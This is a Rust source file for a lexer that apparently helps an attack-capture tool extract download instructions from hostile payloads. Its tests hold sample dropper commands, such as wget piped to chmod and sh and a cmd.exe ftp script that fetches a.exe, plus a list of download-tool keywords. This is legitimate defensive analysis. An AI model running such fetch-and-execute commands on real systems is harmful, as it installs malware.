//! Splits attack payloads into shell-like commands for the downloaders' parsers.
//! Nothing here runs anything: it is a forgiving lexer for Unix shells and
//! `cmd.exe` alike (`;`, `&`, `&&`, `|`, `||`, newlines, backticks and `$( )`
//! separate commands; quotes group words; `>` and `>>` are their own words, so
//! `echo open 1.2.3.4 21>>x` reads as `echo open 1.2.3.4 21 >> x`).

/// One simple command: its words, and the line it started on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    pub words: Vec<String>,
    pub line: usize,
}

impl Command {
    /// The program, without its directory, `.exe` or letter case; `busybox`,
    /// `sudo`, `nohup`, `exec` and `cmd /c` prefixes skipped.
    pub fn program(&self) -> (String, &[String]) {
        let mut w = &self.words[..];
        loop {
            let Some(first) = w.first() else {
                return (String::new(), w);
            };
            let name = program_name(first);
            match name.as_str() {
                "busybox" | "sudo" | "nohup" | "exec" | "command" | "env" | "start" => w = &w[1..],
                "cmd" => {
                    w = &w[1..];
                    while w.first().is_some_and(|a| a.starts_with('/')) {
                        w = &w[1..];
                    }
                }
                _ => return (name, &w[1..]),
            }
        }
    }
}

/// `/bin/busybox` → `busybox`, `C:\Windows\ftp.exe` → `ftp`.
pub fn program_name(word: &str) -> String {
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let base = base.to_ascii_lowercase();
    base.strip_suffix(".exe")
        .map(str::to_string)
        .unwrap_or(base)
}

/// The payload as text (invalid UTF-8 replaced; NUL bytes are separators).
/// Whether `data` mentions any of `words` (ASCII, matched case-insensitively):
/// a cheap test before the text conversion and command parsing, which cost
/// far more on the many inputs that carry no download instruction at all.
pub fn mentions(data: &[u8], words: &[&str]) -> bool {
    // Look for each word's first two letters in both cases with memchr-speed
    // searches, then compare the rest case-insensitively.
    words.iter().any(|w| {
        let w = w.as_bytes();
        let (Some(&a), Some(&b)) = (w.first(), w.get(1)) else {
            return false;
        };
        let heads = [
            [a.to_ascii_lowercase(), b.to_ascii_lowercase()],
            [a.to_ascii_uppercase(), b.to_ascii_uppercase()],
            [a.to_ascii_uppercase(), b.to_ascii_lowercase()],
            [a.to_ascii_lowercase(), b.to_ascii_uppercase()],
        ];
        heads.iter().any(|h| {
            memchr::memmem::find_iter(data, h).any(|i| {
                data.get(i..i + w.len())
                    .is_some_and(|s| s.eq_ignore_ascii_case(w))
            })
        })
    })
}

/// The download instructions `parse` finds in an input, or none when the attack
/// may not download any more or the input mentions none of `words` (the cheap
/// test that spares the parsing on most inputs).
pub fn instructions<T>(
    input: &crate::analysis::Input,
    words: &[&str],
    parse: impl FnOnce(&str) -> Vec<T>,
) -> Vec<T> {
    if input.downloads_left == 0 || !mentions(input.data, words) {
        return Vec::new();
    }
    parse(&text(input.data))
}

pub fn text(data: &[u8]) -> String {
    String::from_utf8_lossy(data).replace('\0', "\n")
}

/// Split `text` into commands.
pub fn commands(text: &str) -> Vec<Command> {
    let mut lx = Lexer::default();
    let chars: Vec<char> = text.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\n' => {
                lx.end_command();
                lx.line += 1;
            }
            '\r' | ';' | '|' | '`' | '(' | ')' | '{' | '}' => lx.end_command(),
            '&' => lx.end_command(),
            '$' if chars.get(i + 1) == Some(&'(') => {
                lx.end_command();
                i += 1;
            }
            '>' | '<' => {
                // `2>` and `1>>` (cmd.exe too): a single digit glued on is the
                // descriptor, not a word.
                let fd = if lx.in_word && (lx.word == "1" || lx.word == "2") {
                    lx.in_word = false;
                    std::mem::take(&mut lx.word)
                } else {
                    lx.end_word();
                    String::new()
                };
                let mut op = fd;
                op.push(c);
                while chars.get(i + 1) == Some(&c) {
                    op.push(c);
                    i += 1;
                }
                // `2>&1`, `>&2`: the `&` belongs to the redirection.
                if chars.get(i + 1) == Some(&'&') {
                    op.push('&');
                    i += 1;
                    while chars.get(i + 1).is_some_and(|d| d.is_ascii_digit()) {
                        op.push(chars[i + 1]);
                        i += 1;
                    }
                }
                lx.words.push(op);
            }
            '\'' | '"' => {
                lx.in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != c {
                    if c == '"' && chars[i] == '\\' && i + 1 < chars.len() {
                        i += 1;
                    }
                    if chars[i] == '\n' {
                        lx.line += 1;
                    }
                    lx.word.push(chars[i]);
                    i += 1;
                }
            }
            '\\' if chars.get(i + 1).is_some_and(|n| " \t;&|'\"".contains(*n)) => {
                lx.in_word = true;
                lx.word.push(chars[i + 1]);
                i += 1;
            }
            c if c.is_whitespace() => lx.end_word(),
            c => {
                lx.in_word = true;
                lx.word.push(c);
            }
        }
        i += 1;
    }
    lx.end_command();
    lx.out
}

#[derive(Default)]
struct Lexer {
    out: Vec<Command>,
    words: Vec<String>,
    word: String,
    in_word: bool,
    line: usize,
    start: usize,
}

impl Lexer {
    fn end_word(&mut self) {
        if self.in_word {
            if self.words.is_empty() {
                self.start = self.line;
            }
            self.words.push(std::mem::take(&mut self.word));
            self.in_word = false;
        }
    }

    fn end_command(&mut self) {
        self.end_word();
        if !self.words.is_empty() {
            self.out.push(Command {
                words: std::mem::take(&mut self.words),
                line: self.start,
            });
        }
    }
}

/// Whether a word is a redirection operator (`>`, `>>`, `<`, `2>&1`, ...).
pub fn is_redirect(w: &str) -> bool {
    let w = w.trim_start_matches(['1', '2']);
    w.starts_with('>') || w.starts_with('<')
}

/// Words of a command line with redirections (and their targets) removed, and the
/// target of the last `>`/`>>`.
pub fn strip_redirects(words: &[String]) -> (Vec<String>, Option<String>) {
    let mut kept = Vec::new();
    let mut target = None;
    let mut i = 0;
    while i < words.len() {
        let w = &words[i];
        if is_redirect(w) {
            if !w.contains('&') {
                if let Some(t) = words.get(i + 1) {
                    if !w.contains('<') {
                        target = Some(t.clone());
                    }
                    i += 1;
                }
            }
        } else {
            kept.push(w.clone());
        }
        i += 1;
    }
    (kept, target)
}

/// A plausible host: a name or an IPv4/IPv6 address, nothing a shell would expand.
pub fn is_host(s: &str) -> bool {
    let s = s.trim_start_matches('[').trim_end_matches(']');
    if s.parse::<std::net::IpAddr>().is_ok() {
        return true;
    }
    !s.is_empty()
        && s.len() <= 253
        && s.contains('.')
        && !s.starts_with('.')
        && !s.starts_with('-')
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-' || c == '_')
        && s.chars()
            .any(|c| c.is_ascii_alphabetic() || c.is_ascii_digit())
        && !s.rsplit('.').next().unwrap_or("").is_empty()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &str) -> Vec<Vec<String>> {
        commands(text).into_iter().map(|c| c.words).collect()
    }

    #[test]
    fn separators_quotes_and_redirections() {
        assert_eq!(
            words("cd /tmp; wget http://a/b -O x && chmod +x x|sh"),
            vec![
                vec!["cd", "/tmp"],
                vec!["wget", "http://a/b", "-O", "x"],
                vec!["chmod", "+x", "x"],
                vec!["sh"]
            ]
        );
        assert_eq!(
            words("echo open 1.2.3.4 21>>x&echo get a.exe >> x"),
            vec![
                vec!["echo", "open", "1.2.3.4", "21", ">>", "x"],
                vec!["echo", "get", "a.exe", ">>", "x"]
            ]
        );
        assert_eq!(
            words("sh -c 'wget http://h/x; echo \"a b\"' 2>&1"),
            vec![vec!["sh", "-c", "wget http://h/x; echo \"a b\"", "2>&1"]]
        );
        assert_eq!(
            words("$(wget http://h/x)`curl h/y`"),
            vec![vec!["wget", "http://h/x"], vec!["curl", "h/y"]]
        );
        let c = commands("a\r\nb\nc d");
        assert_eq!(c[2].line, 2);
    }

    #[test]
    fn program_names() {
        let c = &commands("/bin/busybox wget x")[0];
        assert_eq!(c.program().0, "wget");
        let c = &commands("cmd.exe /c /q FTP.EXE -s:x")[0];
        assert_eq!(c.program().0, "ftp");
        assert_eq!(c.program().1, &["-s:x".to_string()]);
        assert_eq!(program_name("C:\\Windows\\System32\\tftp.exe"), "tftp");
    }

    #[test]
    fn redirects_stripped() {
        let w = &commands("echo open 1.2.3.4 21 2>/dev/null >> o")[0].words;
        let (kept, target) = strip_redirects(w);
        assert_eq!(kept, vec!["echo", "open", "1.2.3.4", "21"]);
        assert_eq!(target.as_deref(), Some("o"));
        // cmd.exe: `1>>x` is stdout; `1 >>x` keeps the word.
        let (kept, _) = strip_redirects(&commands("echo user 1 1>>x")[0].words);
        assert_eq!(kept, vec!["echo", "user", "1"]);
        let (kept, _) = strip_redirects(&commands("echo user 1 1 >>x")[0].words);
        assert_eq!(kept, vec!["echo", "user", "1", "1"]);
    }

    #[test]
    fn hosts() {
        for h in ["1.2.3.4", "evil.example.com", "[::1]", "fd00::1", "a-b.c0"] {
            assert!(is_host(h), "{h}");
        }
        for h in ["", "-s:x", "x", "get", "$IP", "a;b", ".com", "a."] {
            assert!(!is_host(h), "{h}");
        }
    }
}

#[cfg(test)]
mod mention_tests {
    use super::mentions;

    #[test]
    fn finds_words_in_any_case() {
        assert!(mentions(b"cd /tmp; WGET http://x", &["wget"]));
        assert!(mentions(b"x Tftp -i", &["tftp"]));
        assert!(mentions(b"..DownloadFile(..", &["downloadfile"]));
        assert!(!mentions(b"GET / HTTP/1.0", &["wget", "curl", "ftp"]));
        assert!(!mentions(b"", &["ftp"]));
        assert!(!mentions(b"wg", &["wget"]));
    }
}
